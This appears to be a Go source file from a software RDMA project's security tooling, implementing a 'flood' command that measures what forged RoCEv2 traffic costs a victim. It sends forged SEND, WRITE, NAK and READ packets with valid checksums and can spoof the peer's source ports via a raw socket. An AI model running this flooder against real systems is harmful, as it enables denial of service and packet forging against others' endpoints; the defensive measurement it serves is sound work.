// Package flood is softrdma flood: an attacker process for measuring what a flood of forged
// RoCEv2 packets costs a victim (docs/security.md, "Flood"). It sends, as
// fast as one goroutine can, a mix of
//
//	unknown  SEND_ONLY to random QPNs (not the victim's)
//	psn      WRITE_ONLY to the victim's QPN with random PSNs, rkeys, VAs
//	nak      NAKs (sequence, RNR, fatal) to the victim's QPN, random PSNs
//	replay   READ requests to the victim's QPN with random PSNs, rkeys,
//	         VAs and lengths: "duplicates" asking for other bytes
//
// each with a correct ICRC, to the victim's UDP port. By default from an
// ordinary UDP socket on -from (any port: what any process on the peer's
// host can do); with -spoof from a raw socket that writes its own UDP
// header, with the source ports the peer's own sockets have on -from
// (/proc/net/udp): packets that pass the peer-port check, as an attacker
// on the path or root on the peer's host could send them.
package flood

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/softrdma/softrdma/wire"
)

// floodKinds are the kinds of forged packet, in the order of the mix.
var floodKinds = []string{"unknown", "psn", "nak", "replay"}

// floodOpts is a parsed command line.
type floodOpts struct {
	to       netip.AddrPort
	from     netip.Addr
	qpn      uint32
	kinds    []string
	duration time.Duration
	spoof    bool
	payload  int
	variants int // distinct packets built up front
}

func parseFloodArgs(args []string, usage io.Writer) (*floodOpts, error) {
	fs := flag.NewFlagSet("flood", flag.ContinueOnError)
	fs.SetOutput(usage)
	fs.Usage = func() {
		fmt.Fprintf(fs.Output(), "usage: softrdma flood -to ADDR -from ADDR -qpn QPN [flags]\n\n"+
			"Floods the RoCEv2 endpoint at ADDR (UDP 4791) with forged packets for -d,\n"+
			"as fast as it can, and prints how many it sent. See docs/security.md.\n\n")
		fs.PrintDefaults()
	}
	to := fs.String("to", "", "victim device address (ADDR or ADDR:PORT; port 4791 by default)")
	from := fs.String("from", "", "address to send from: the victim's peer's address, to get past the address check")
	qpn := fs.String("qpn", "", "the victim's QPN (hex with 0x, or decimal), as its perftest output prints it")
	kinds := fs.String("kinds", strings.Join(floodKinds, ","), "the mix, cycled packet by packet")
	o := &floodOpts{}
	fs.DurationVar(&o.duration, "d", 10*time.Second, "how long to flood")
	fs.BoolVar(&o.spoof, "spoof", false, "send from the peer's own UDP ports on -from (a raw socket: Linux, root)")
	fs.IntVar(&o.payload, "payload", 64, "payload bytes of the forged SENDs and WRITEs")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if fs.NArg() > 0 {
		return nil, fmt.Errorf("unexpected arguments %q", fs.Args())
	}
	if *to == "" || *from == "" || *qpn == "" {
		return nil, errors.New("-to, -from and -qpn are required (softrdma flood -h)")
	}
	var err error
	if o.to, err = netip.ParseAddrPort(*to); err != nil {
		a, aerr := netip.ParseAddr(*to)
		if aerr != nil {
			return nil, fmt.Errorf("-to %q: want ADDR or ADDR:PORT", *to)
		}
		o.to = netip.AddrPortFrom(a, 4791)
	}
	if o.from, err = netip.ParseAddr(*from); err != nil {
		return nil, fmt.Errorf("-from %q: %v", *from, err)
	}
	if !o.to.Addr().Is4() || !o.from.Is4() {
		return nil, errors.New("-to and -from: IPv4 addresses only")
	}
	n, err := strconv.ParseUint(*qpn, 0, 32)
	if err != nil || n < 2 || n > 0xFFFFFF {
		return nil, fmt.Errorf("-qpn %q: want a QPN between 2 and 0xffffff", *qpn)
	}
	o.qpn = uint32(n)
	for _, k := range strings.Split(*kinds, ",") {
		k = strings.TrimSpace(k)
		if !slices.Contains(floodKinds, k) {
			return nil, fmt.Errorf("-kinds: unknown kind %q (have %s)", k, strings.Join(floodKinds, ", "))
		}
		o.kinds = append(o.kinds, k)
	}
	if o.duration <= 0 || o.payload < 0 || o.payload > 4096 {
		return nil, errors.New("-d must be positive, -payload between 0 and 4096")
	}
	o.variants = 4096
	return o, nil
}

// floodPacket builds one forged packet of kind (without its ICRC, which
// depends on the source port).
func floodPacket(kind string, victim uint32, payload int, rng *rand.Rand) []byte {
	psn := wire.PSN(rng.Uint32() & 0xFFFFFF)
	switch kind {
	case "unknown":
		qpn := rng.Uint32() & 0xFFFFFF
		if qpn == victim || qpn < 2 {
			qpn ^= 0x800000
		}
		return floodBuild(wire.RCSendOnly, wire.BTHFields{DestQP: qpn, PSN: psn, AckReq: true}, payload, nil)
	case "psn":
		return floodBuild(wire.RCWriteOnly, wire.BTHFields{DestQP: victim, PSN: psn, AckReq: true}, payload, func(b []byte, info *wire.OpInfo) {
			wire.RETH(b[info.RETHOff:]).Encode(&wire.RETHFields{VA: rng.Uint64(), RKey: rng.Uint32(), DMALen: uint32(payload)})
		})
	case "nak":
		syn := []uint8{wire.NAKSyndrome(wire.NAKPSNSeqError), wire.RNRNAKSyndrome(31), wire.NAKSyndrome(wire.NAKRemoteAccessError)}[rng.IntN(3)]
		return floodBuild(wire.RCAck, wire.BTHFields{DestQP: victim, PSN: psn}, 0, func(b []byte, info *wire.OpInfo) {
			wire.AETH(b[info.AETHOff:]).Encode(&wire.AETHFields{Syndrome: syn, MSN: rng.Uint32() & 0xFFFFFF})
		})
	default: // replay
		return floodBuild(wire.RCReadRequest, wire.BTHFields{DestQP: victim, PSN: psn, AckReq: true}, 0, func(b []byte, info *wire.OpInfo) {
			wire.RETH(b[info.RETHOff:]).Encode(&wire.RETHFields{VA: rng.Uint64(), RKey: rng.Uint32(), DMALen: 1 + rng.Uint32()%65536})
		})
	}
}

func floodBuild(op wire.Opcode, bth wire.BTHFields, payload int, ext func(b []byte, info *wire.OpInfo)) []byte {
	info := op.Info()
	pad := wire.PadFor(payload)
	b := make([]byte, info.Length+payload+pad+wire.ICRCLen)
	bth.Opcode, bth.PadCount, bth.PKey = op, pad, 0xFFFF
	wire.BTH(b).Encode(&bth)
	if ext != nil {
		ext(b, info)
	}
	return b
}

// floodResult is what a flood sent.
type floodResult struct {
	sent, errors uint64
	elapsed      time.Duration
	perKind      map[string]uint64
	ports        []uint16 // source ports used
}

// Run runs softrdma flood with the command line args[1:] (args[0] is the
// command's name). It stops early when ctx ends. -h prints the usage and
// returns flag.ErrHelp.
func Run(ctx context.Context, args []string, stdout, stderr io.Writer) error {
	o, err := parseFloodArgs(args[min(1, len(args)):], stderr)
	if err != nil {
		return err
	}
	r, err := flood(ctx, o)
	if err != nil {
		return err
	}
	rate := float64(r.sent) / r.elapsed.Seconds()
	var parts []string
	for _, k := range o.kinds {
		if n, ok := r.perKind[k]; ok {
			parts = append(parts, fmt.Sprintf("%s %d", k, n))
			delete(r.perKind, k)
		}
	}
	from := "an ephemeral port"
	if o.spoof {
		from = fmt.Sprintf("spoofed source ports %v", r.ports)
	}
	fmt.Fprintf(stdout, "flood: %d packets in %.2f s: %.0f packets/s to %v QPN %#x from %v, %s (%s); %d send errors\n",
		r.sent, r.elapsed.Seconds(), rate, o.to, o.qpn, o.from, from, strings.Join(parts, ", "), r.errors)
	return nil
}

// udpPorts returns the local UDP ports bound on addr, from /proc/net/udp
// (the sockets of every process: the peer's among them).
func udpPorts(addr netip.Addr) ([]uint16, error) {
	data, err := os.ReadFile("/proc/net/udp")
	if err != nil {
		return nil, err
	}
	a4 := addr.As4()
	// /proc/net/udp prints the address as a host-order (little-endian) word.
	want := fmt.Sprintf("%02X%02X%02X%02X", a4[3], a4[2], a4[1], a4[0])
	var ports []uint16
	for _, line := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(line)
		if len(f) < 2 {
			continue
		}
		host, port, ok := strings.Cut(f[1], ":")
		if !ok || host != want {
			continue
		}
		p, err := strconv.ParseUint(port, 16, 16)
		if err == nil {
			ports = append(ports, uint16(p))
		}
	}
	return ports, nil
}
